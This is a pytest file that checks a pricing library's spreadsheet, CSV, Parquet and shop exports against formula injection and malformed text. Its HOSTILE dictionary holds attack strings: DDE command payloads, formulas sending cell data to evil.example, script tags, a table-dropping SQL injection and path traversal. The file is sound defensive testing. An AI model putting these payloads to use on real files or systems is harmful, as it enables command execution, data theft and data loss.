"""Values that attack: none runs in a spreadsheet, none breaks a row, none is read as another product, in any format."""

from __future__ import annotations

import csv
import io
import re
import unicodedata

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from pricing_core.errors import DataError
from pricing_core.pricelist.formats import FORMATS, ExportOptions, write
from pricing_core.pricelist.preflight import preflight
from pricing_core.pricelist.roundtrip import rewrite

from .list_cases import price_list

HOSTILE = {
    "sum": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1:A9)",
    "dde": "=cmd|' /C calc'!A0",
    "dde plus": "+cmd|' /C notepad'!A0",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "webservice": '=WEBSERVICE("http://evil.example/"&A1)',
    "importxml": '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "full-width equals": "＝1+1",
    "full-width plus": "＋1",
    "full-width minus": "－1",
    "full-width at": "＠SUM(A1)",
    "small equals": "﹦1+1",
    "true minus": "\u22121+1",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "space": " =1+1",
    "no-break space": "\u00a0=1+1",
    "zero-width space": "\u200b=1+1",
    "byte order mark": "\ufeff=1+1",
    "right-to-left override": "\u202e=1+1",
    "inner override": "invoice\u202egpj.exe",
    "isolate": "\u2066=1\u2069",
    "nul": "a\x00b",
    "nul first": "\x00=1+1",
    "escape sequence": "\x1b[31mred\x1b[0m",
    "bell": "\x07\x08",
    "vertical tab": "\x0b=1+1",
    "unit separator": "a\x1fb",
    "c1 control": "a\x85b",
    "line separator": "a\u2028=1+1",
    "lone surrogate": "a\ud800b",
    "noncharacter": "a\ufffeb\uffffc",
    "quote": '"',
    "quote and delimiter": '","=1+1',
    "closing quote": 'x"\r\n=1+1,2,3',
    "semicolon": "a;=1+1;b",
    "tabs": "a\t=cmd|' /C calc'!A0\tb",
    "new row": "a\r\nA9,A9,A9\r\n",
    "script": "<script>alert(1)</script>",
    "image": '<img src=x onerror="alert(1)">',
    "entity": "&lt;b&gt;&#61;1",
    "xml": "]]></t></si><si><t>=1+1",
    "doctype": '<!DOCTYPE x [<!ENTITY y "=1">]>&y;',
    "excel escape": "_x003D_1+1",
    "markdown link": "[click](javascript:alert(1))",
    "template": "{{7*7}}${7*7}",
    "sql": "'; DROP TABLE price_lists; --",
    "path": "../../etc/passwd",
    "long": "=" + "A" * 40_000,
    "long plain": "x" * 200_000,
    "combining": "e" + "\u0301" * 500,
    "not a number": "NaN",
    "infinity": "inf",
    "true": "TRUE",
    "null": "NULL",
    "big number": "9" * 400,
    "exponent": "1e999",
    "date": "3/4",
}
AMOUNTS = {"nan": np.nan, "inf": np.inf, "minus inf": -np.inf, "huge": 1e300, "tiny": 5e-324, "negative": -9.0,
           "zero": 0.0, "tail": 0.1 + 0.2, "too fine": 9.99999}  # fmt: skip
SIGNS = "=+-@\u2212"


def runs(cell: str) -> bool:
    """Whether a spreadsheet might run a cell: the reference for the tests, apart from the code under test."""
    seen = [c for c in cell if unicodedata.category(c)[0] not in "CZ"]
    return bool(cell) and (cell[0] in "\t\r\n" or (bool(seen) and unicodedata.normalize("NFKC", seen[0])[0] in SIGNS))


def listed(text: str) -> pd.DataFrame:
    """Two good rows around one whose texts are all hostile."""
    three = ["A1", text, "A3"]
    return price_list(
        [9.0, 8.5, 8.0], product_id=pd.Series(three, dtype=object), reason=pd.Series(["ok", text, "ok"], dtype=object),
        approved_by=pd.Series(["Kim", text, "Kim"], dtype=object),
    )  # fmt: skip


def shown(text: str) -> str:
    return re.sub("[\ud800-\udfff]", "\ufffd", text)


def cells(data: bytes, delimiter: str = ",") -> list[list[str]]:
    csv.field_size_limit(10_000_000)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter, strict=True))


def test_there_are_many_of_them() -> None:
    assert len(HOSTILE) >= 30


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_excel_csv_runs_nothing_however_a_spreadsheet_splits_it(text: str) -> None:
    data = write("excel_csv", listed(text), currency="USD").data
    rows = cells(data)
    assert [len(row) for row in rows] == [28] * 4
    assert not [cell for row in rows for cell in row if runs(cell) and not re.fullmatch(r"-?\d+\.?\d*", cell)]
    for delimiter in ";\t":  # where the system's list separator is another one, quotes in mid-line mean nothing
        for line in re.split("\r\n|\r|\n", data.decode("utf-8-sig")):
            for part in line.split(delimiter):
                assert not runs(part.lstrip('"')), part
    product = rows[2][rows[0].index("product_id")]
    assert product.replace("'", "") == shown(text).replace("'", ""), "nothing but apostrophes is added"


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_import_csv_keeps_text_and_says_what_a_spreadsheet_would_run(text: str) -> None:
    rows = cells(write("csv", listed(text), currency="USD").data)
    assert [len(row) for row in rows] == [28] * 4
    assert [row[rows[0].index("product_id")] for row in rows[1:]] == ["A1", shown(text), "A3"]
    found = preflight("csv", listed(text), currency="USD")
    named = found.loc[found["problem"].str.startswith("The text starts like a formula"), "row_number"]
    assert set(named) == ({3} if runs(text) else set())


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_the_workbook_opens_and_every_text_is_text(text: str) -> None:
    data = write("xlsx", listed(text), currency="USD").data
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None and (sheet.max_row, sheet.max_column) == (4, 28)
    row = {head.value: cell for head, cell in zip(sheet[1], sheet[3], strict=True)}
    assert row["product_id"].data_type in ("s", "n") and row["reason"].data_type != "f"
    assert not [cell for line in sheet.iter_rows() for cell in line if cell.data_type in ("f", "e")]
    raw = str(row["product_id"].value or "")
    back = re.sub("_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), raw)
    assert shown(text)[:32_767] in (raw, back), "what XML cannot hold is written as _xHHHH_"


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_parquet_holds_the_text(text: str) -> None:
    table = pq.read_table(io.BytesIO(write("parquet", listed(text), currency="USD").data))
    assert table["product_id"].to_pylist() == ["A1", shown(text), "A3"]


@pytest.mark.parametrize("format", [name for name, each in FORMATS.items() if each.shop])
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_shop_files_keep_or_refuse_the_row_and_the_others_are_untouched(format: str, text: str) -> None:
    options, delimiter = ExportOptions(id_as_title=True), "\t" if format == "google_merchant" else ","
    file = write(format, listed(text), currency="USD", options=options)
    rows = cells(file.data, delimiter)
    assert {len(row) for row in rows} == {len(rows[0])}
    assert len(rows) == 1 + file.rows == 4 - file.left_out
    good = write(format, price_list([9.0, 8.0], product_id=["A1", "A3"]), currency="USD", options=options)
    assert [rows[0], rows[1], rows[-1]] == cells(good.data, delimiter)
    found = preflight(format, listed(text), currency="USD", options=options)
    if file.left_out:
        assert set(found.loc[found["severity"] == "blocking", "row_number"]) == {3}
    else:
        key = rows[2][{"shopify": 2, "shopify_legacy": 4}.get(format, 0)]
        assert key == text or (format == "woocommerce" and key == "'" + text)
        if any(runs(cell) for cell in rows[2]):
            assert set(found["row_number"]) == {3}, "what a spreadsheet would run is at least named"


@pytest.mark.parametrize("format", list(FORMATS))
@pytest.mark.parametrize("amount", AMOUNTS.values(), ids=AMOUNTS)
def test_amounts_are_exact_or_refused_or_blank_and_named(format: str, amount: float) -> None:
    frame = price_list([9.0, amount, 8.0])
    file = write(format, frame, currency="USD", options=ExportOptions(id_as_title=True))
    found = preflight(format, frame, currency="USD", options=ExportOptions(id_as_title=True))
    if FORMATS[format].shop:
        assert file.left_out == (0 if amount == AMOUNTS["tail"] else 1)
        assert not re.search(rb"inf|nan|[eE][+-]?\d|0000000", file.data)
    elif np.isinf(amount):
        assert "The amount is not a number; its cell is blank." in set(found["problem"])
        assert set(found["row_number"]) == {3}
    elif format in ("csv", "excel_csv"):
        text = file.data.decode("utf-8-sig")
        assert not re.search(r",(inf|nan|-inf|[\d.]+e[+-]?\d+),", text, re.IGNORECASE)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_shops_own_hostile_texts_come_back_byte_for_byte(text: str) -> None:
    text = shown(text)
    quoted = '"' + text.replace('"', '""') + '"'
    source = f"SKU,Title,Price\r\nA1,{quoted},10.00\r\n{quoted},t,10.00\r\n".encode()
    try:
        done = rewrite("shopify", price_list([9.0]), source, currency="USD")
    except DataError:
        raise AssertionError("a file with odd texts is still a file") from None
    assert done.data == source.replace(b",10.00", b",9.00", 1)
